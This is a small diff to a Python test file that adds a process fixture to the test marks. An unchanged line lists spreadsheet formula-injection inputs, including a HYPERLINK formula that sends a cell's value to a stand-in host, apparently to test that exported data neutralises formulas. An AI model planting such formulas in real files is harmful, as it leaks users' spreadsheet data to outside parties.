@@ -14,7 +14,7 @@ from tests.train.tiny_data import write_tiny_dataset
 
 from .model_child import make_run, run_cli
 
-pytestmark = pytest.mark.timeout(240)
+pytestmark = [pytest.mark.timeout(240), pytest.mark.usefixtures("child_processes")]
 
 FORMULAS = ['=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)"]
 
